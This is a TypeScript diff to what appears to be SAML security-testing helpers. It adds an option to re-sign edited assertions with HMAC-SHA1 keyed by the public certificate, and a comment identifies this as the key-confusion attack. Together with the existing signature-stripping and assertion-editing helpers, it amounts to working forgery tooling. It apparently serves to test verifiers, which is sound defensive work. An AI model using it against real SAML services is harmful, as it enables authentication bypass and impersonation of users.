@@ -45,13 +45,23 @@ export function stripSignature(el: Element): void {
  * Signs the element with `ID` = id in the serialized document (enveloped, exclusive c14n,
  * RSA-SHA256), placing the signature after its Issuer as SAML requires.
  */
-export function signElement(xml: string, id: string, keyPem: string, certPem: string): string {
+export function signElement(
+  xml: string,
+  id: string,
+  keyPem: string,
+  certPem: string,
+  o: { hmac?: boolean } = {},
+): string {
   const sig = new SignedXml({
     privateKey: keyPem,
     publicCert: certPem,
-    signatureAlgorithm: "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256",
+    signatureAlgorithm: o.hmac
+      ? "http://www.w3.org/2000/09/xmldsig#hmac-sha1"
+      : "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256",
     canonicalizationAlgorithm: "http://www.w3.org/2001/10/xml-exc-c14n#",
   });
+  // HMAC keyed with a public certificate: the key-confusion attack on verifiers that accept it.
+  if (o.hmac) sig.enableHMAC();
   sig.addReference({
     xpath: `//*[@ID='${id}']`,
     transforms: [
@@ -75,13 +85,14 @@ export function editAndResign(
   edit: (assertion: Element, doc: Document) => void,
   keyPem: string,
   certPem: string,
+  o: { hmac?: boolean } = {},
 ): string {
   const doc = decodeResponse(b64);
   const assertion = assertionOf(doc);
   stripSignature(assertion);
   edit(assertion, doc);
   const id = assertion.getAttribute("ID")!;
-  return encodeResponse(signElement(new XMLSerializer().serializeToString(doc), id, keyPem, certPem));
+  return encodeResponse(signElement(new XMLSerializer().serializeToString(doc), id, keyPem, certPem, o));
 }
 
 /** Edits the document without touching any signature. */
